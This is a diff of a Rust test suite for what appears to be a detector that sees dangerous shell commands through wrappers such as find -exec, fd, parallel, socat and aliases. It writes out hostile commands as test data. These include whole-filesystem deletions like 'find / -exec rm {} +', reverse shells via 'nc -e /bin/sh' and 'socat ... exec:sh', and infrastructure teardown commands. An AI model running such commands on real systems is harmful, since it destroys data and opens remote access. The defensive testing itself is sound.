@@ -320,8 +320,25 @@ fn for_each() {
         ("xargs --max-args 1 --no-run-if-empty rm", &["rm < [other input]"]),
         ("xargs -a list -d , rm", &["rm <"]),
         ("xargs -L1 -t rm -f", &["rm -f < [other input]"]),
-        ("find . -name x -exec rm {} +", &["rm ./%*"]),
-        (r"find /etc -name x -exec terraform -chdir={} destroy \;", &["terraform -chdir=/etc/%? destroy"]),
+        ("find . -name '*.x' -exec rm {} +", &["rm ./%*"]),
+        ("find . -name x -exec rm {} +", &["rm ./%*", "rm ./x"]),
+        (r"find /etc -name 'x*' -exec terraform -chdir={} destroy \;", &["terraform -chdir=/etc/%? destroy"]),
+        (r"find a b -type f -exec cat {} \;", &["cat a", "cat b"]),
+        (r"find . -name s.sh -exec sh {} \;", &["sh ./%?", "sh ./s.sh"]),
+        ("find ~ -exec rm -f {} +", &["rm -r -f ~"]),
+        (r"find / -type f -exec unlink {} \;", &["rm -r /"]),
+        ("find / -name '*' -exec rm {} +", &["rm -r /"]),
+        ("find / -iname '?*' -exec rm {} +", &["rm -r /"]),
+        ("find / -path '/*' -exec rm {} +", &["rm -r /"]),
+        ("find / -regex '.*' -exec rm {} +", &["rm -r /"]),
+        ("find / ! -name x -exec rm {} +", &["rm -r /"]),
+        ("find / -mtime +0 -perm -000 -size -999999G -exec rm {} +", &["rm -r /"]),
+        ("find / -name x -o -exec rm {} +", &["rm -r /"]),
+        (r"find / \( -name x -o -true \) -exec rm {} +", &["rm -r /"]),
+        (r"find / \( -name 'x*' -o -name 'y*' \) -exec rm {} +", &["rm /%*"]),
+        (r"find . -path ./x -prune -o -name '*.js' -exec rm {} \;", &["rm ./%?"]),
+        (r"find . -type l -exec rm {} \;", &["rm ./%?"]),
+        (r"find . -mmin -60 -exec rm {} \;", &["rm ./%?"]),
         (r"find a b -type d -execdir terraform destroy \; -print", &["terraform destroy [in %?]"]),
         (
             r"find . -exec sh -c 'rm $1' _ {} \; -o -ok kubectl delete -f {} \;",
@@ -329,8 +346,13 @@ fn for_each() {
         ),
         ("find -L . -exec grep x {} +", &["grep x ."]),
         ("fd -e tf -x terraform destroy", &["terraform destroy %?"]),
-        ("fd pattern dir --exec rm {/} ';' -X ls", &["rm %?", "ls %*"]),
+        ("fd pattern dir --exec rm {/} ';' -X ls", &["rm dir/%?", "ls dir/%*"]),
         ("fd -Htf x -X rm -rf", &["rm -rf %*"]),
+        ("fd . / -x rm", &["rm -r /"]),
+        ("fd -H -tf . /srv --exec rm -f {}", &["rm -r -f /srv"]),
+        ("fd -e log . /srv -x rm", &["rm /srv/%?"]),
+        ("fd . -x rm -rf", &["rm -r -rf ."]),
+        ("fd pyc -x rm", &["rm %?"]),
         (
             "parallel kubectl delete ns ::: prod staging",
             &["text: kubectl delete ns prod [other input]", "text: kubectl delete ns staging [other input]"],
@@ -344,7 +366,10 @@ fn for_each() {
         ("parallel rm {1} {2} ::: a b ::: c d", &["text: rm %? %? [other input]"]),
         ("parallel --memfree 1G --jl log rm ::: a", &["text: rm a [other input]"]),
         ("parallel rm", &["text: rm %* [other input]"]),
-        ("parallel", &["input Shell [other input]"]),
+        ("parallel", &["input Shell"]),
+        ("parallel -j4 --bar", &["input Shell"]),
+        ("parallel -a list", &["file Shell: list"]),
+        ("parallel :::: list", &["file Shell: list"]),
         ("parallel -S host rm ::: a", &["text: rm a [Remote, other input]"]),
         ("entr -r terraform destroy", &["terraform destroy [other input]"]),
         ("entr -s 'terraform destroy'", &["text: terraform destroy [other input]"]),
@@ -368,6 +393,8 @@ fn for_each() {
         "parallel --dry-run rm ::: a",
         "find",
         "find . -newer x -exec",
+        "find . -name '*' -print",
+        "fd . /srv",
     ]);
 }
 
@@ -891,4 +918,162 @@ fn many_unknown_words_stay_few_readings() {
     let options: Vec<Value> =
         std::iter::once("sudo".into()).chain(std::iter::repeat_n("--x".into(), 2_000)).collect();
     assert!(inner(&options).is_none_or(|inners| inners.len() <= 2));
+}
+
+#[test]
+fn aliases() {
+    check(&[
+        ("grm -rf /x", &["rm -rf /x"]),
+        ("gdd if=a of=b", &["dd if=a of=b"]),
+        ("/opt/homebrew/bin/grm x", &["rm x", "file: /opt/homebrew/bin/grm | x"]),
+        ("kubecolor delete ns prod", &["kubectl delete ns prod"]),
+        ("microk8s.kubectl delete ns prod", &["kubectl delete ns prod"]),
+        ("rancher kubectl delete ns x", &["kubectl delete ns x"]),
+        ("tsh kubectl delete ns x", &["kubectl delete ns x"]),
+        ("hub push -f", &["git push -f"]),
+        ("terraform.exe destroy", &["terraform destroy"]),
+        ("./Terraform.EXE destroy", &["terraform destroy", "file: ./Terraform.EXE | destroy"]),
+        ("/usr/lib/git-core/git-push -f", &["git push -f"]),
+        ("git-reset --hard", &["git reset --hard"]),
+        ("coreutils rm -rf /x", &["rm -rf /x"]),
+        ("coreutils --coreutils-prog=rm -rf /x", &["rm -rf /x"]),
+        ("uutils rm x", &["rm x"]),
+        ("/lib64/ld-linux-x86-64.so.2 /bin/sh -c x", &["/bin/sh -c x"]),
+        ("/lib64/ld-linux-x86-64.so.2 --argv0 x /usr/bin/env ls", &["/usr/bin/env ls"]),
+        ("/lib/ld-musl-x86_64.so.1 --library-path /x ls", &["ls"]),
+    ]);
+    nothing(&[
+        "gcc -c x.c",
+        "go build",
+        "grep x y",
+        "gunzip x.gz",
+        "kubectl get pods",
+        "coreutils --list",
+        "coreutils",
+        "/lib64/ld-linux-x86-64.so.2 --list /bin/ls",
+        "git-",
+        "k get pods",
+    ]);
+}
+
+#[test]
+fn networks() {
+    check(&[
+        ("socat - EXEC:'terraform destroy'", &["text: terraform destroy"]),
+        ("socat -d -d TCP-LISTEN:80,fork SYSTEM:'terraform destroy',pty", &["text: terraform destroy"]),
+        ("socat TCP:1.2.3.4:44 exec:sh", &["opaque"]),
+        ("socat - 'TCP:a:1!!EXEC:ls'", &["text: ls"]),
+        ("nc -e /bin/sh 1.2.3.4 4444", &["opaque"]),
+        ("ncat -lk -p 80 --sh-exec 'terraform destroy'", &["text: terraform destroy"]),
+        ("nc -l -c 'terraform destroy'", &["text: terraform destroy"]),
+    ]);
+    nothing(&["nc -zv localhost 5432", "nc -w 3 host 80", "socat - TCP:localhost:80", "ncat --ssl host 443"]);
+}
+
+#[test]
+fn consoles() {
+    check(&[
+        ("rails runner 'User.delete_all'", &["Ruby: User.delete_all"]),
+        ("bin/rails r -e production 'x'", &["Ruby: x"]),
+        ("rails runner db/fix.rb a", &["file Ruby: db/fix.rb | a"]),
+        ("rails c", &["input Ruby"]),
+        ("python manage.py shell -c 'x()'", &["file Python: manage.py | shell -c x()", "Python: x()"]),
+        ("./manage.py shell --command x", &["Python: x"]),
+        ("django-admin shell", &["input Python"]),
+        (
+            "php artisan tinker --execute='x();'",
+            &["file Php: artisan | tinker '--execute=x();'", "Php: x();"],
+        ),
+        ("zx -e x", &["JavaScript: x"]),
+        ("zx", &["input JavaScript"]),
+        ("zx build.mjs", &["file JavaScript: build.mjs"]),
+        ("ipython -c '!terraform destroy'", &["Python: !terraform destroy", "text: terraform destroy"]),
+        ("python3 -m timeit -n1 -r1 -s 'import os' 'os.x()'", &["Python: import os\nos.x()"]),
+        ("ruby -run -e rm -- -rf /x", &["rm -rf /x"]),
+        ("ruby -run -e httpd . -p 80", &["httpd . -p 80"]),
+    ]);
+    nothing(&[
+        "rails server",
+        "rails db:migrate",
+        "./manage.py runserver",
+        "artisan migrate",
+        "zx --version",
+    ]);
+    check(&[("python manage.py runserver", &["file Python: manage.py | runserver"])]);
+}
+
+#[test]
+fn more_wrappers() {
+    check(&[
+        ("sg root -c 'terraform destroy'", &["text: terraform destroy"]),
+        ("sg - docker 'terraform destroy'", &["text: terraform destroy"]),
+        ("newgrp docker", &["input Shell"]),
+        ("proot -r / -b /a:/b terraform destroy", &["terraform destroy"]),
+        ("s6-setuidgid x terraform destroy", &["terraform destroy"]),
+        ("arch -x86_64 terraform destroy", &["terraform destroy"]),
+        ("arch -arch arm64 terraform destroy", &["terraform destroy"]),
+        ("faketime -f '2020-01-01' terraform destroy", &["terraform destroy"]),
+        ("ifne -n terraform destroy", &["terraform destroy"]),
+        ("pee 'terraform destroy' cat", &["text: terraform destroy", "text: cat"]),
+        ("assume prod --exec 'terraform destroy'", &["text: terraform destroy"]),
+        ("assume prod --exec -- terraform destroy", &["terraform destroy"]),
+        ("devbox run -- terraform destroy", &["terraform destroy"]),
+        ("pixi run -e prod terraform destroy", &["terraform destroy"]),
+        ("machinectl shell .host /bin/rm x", &["/bin/rm x"]),
+        ("machinectl shell root@web /bin/rm x", &["/bin/rm x [Container]"]),
+        ("buildah unshare rm x", &["rm x"]),
+        ("consul lock -n 2 x 'rm -rf /x'", &["text: rm -rf /x"]),
+        ("consul watch -type key -key a ./x.sh", &["text: ./x.sh"]),
+        ("fab -H x -- rm -rf /x", &["text: rm -rf /x [Remote]"]),
+        ("knife ssh '*:*' 'rm -rf /x' -x root", &["text: rm -rf /x [Remote]"]),
+        ("puppet apply -e 'exec{\"/bin/rm\":}'", &["opaque"]),
+        ("docker compose run --entrypoint 'rm -rf' x a", &["text: rm -rf \"$@\" | x a [Container]"]),
+        ("docker compose run -v /:/h x rm y", &["rm y"]),
+        ("docker run --mount 'type=bind,\"source=/\",target=/h' x rm y", &["rm y"]),
+        ("emulate sh -c 'terraform destroy'", &["text: terraform destroy"]),
+        ("emulate -R ksh -c 'a $1' b", &["text: a $1 | b"]),
+        ("zargs -- destroy -- terraform", &["terraform destroy"]),
+        ("compgen -W '$(terraform destroy)'", &["text: : $(terraform destroy)"]),
+        ("make -f - x", &["opaque"]),
+        ("make -f /dev/fd/63", &["opaque"]),
+        ("make --eval='x:;ls' x", &["opaque"]),
+        ("ed -s f", &["input Editor"]),
+        ("ex -sc '!terraform destroy' x", &["text: terraform destroy", "input Editor"]),
+        ("vim -es f", &["input Editor"]),
+        ("tclsh", &["input OtherShell"]),
+        ("m4", &["input OtherShell"]),
+        ("lua -e 'os.execute(x)'", &["opaque"]),
+        ("lua -e 'io.popen\"ls\"'", &["opaque"]),
+        ("git -c include.path=/x/gc x", &["opaque"]),
+        ("git -c core.hooksPath=h commit -m x", &["opaque"]),
+        ("git clone -c core.hooksPath=h x", &["opaque"]),
+        ("git -c remote.origin.mirror=true push", &["git push --mirror"]),
+        ("git -c remote.origin.push=+a:b push", &["git push origin +a:b"]),
+        ("git -c clean.requireForce=false clean -d", &["git clean -f -d"]),
+    ]);
+    nothing(&[
+        "arch",
+        "emulate zsh",
+        "emulate -L zsh",
+        "compgen -W 'start stop' -- s",
+        "make -f Makefile.ci test",
+        "make -j4 CC=gcc all",
+        "make -C dir",
+        "puppet apply site.pp",
+        "puppet apply -e 'notify{a:}'",
+        "machinectl list",
+        "consul kv get x",
+        "fab deploy",
+        "knife node list",
+        "assume prod",
+        "devbox shell",
+        "m4 x.m4",
+        "lua -e 'print(\"load popen\")'",
+        "lua -e 'download(x)'",
+        "git -c core.hooksPath=/dev/null commit -m x",
+        "git -c core.hooksPath=h status",
+        "git -c remote.origin.mirror=true fetch",
+        "zargs -- *.txt",
+        "ed --version",
+    ]);
 }
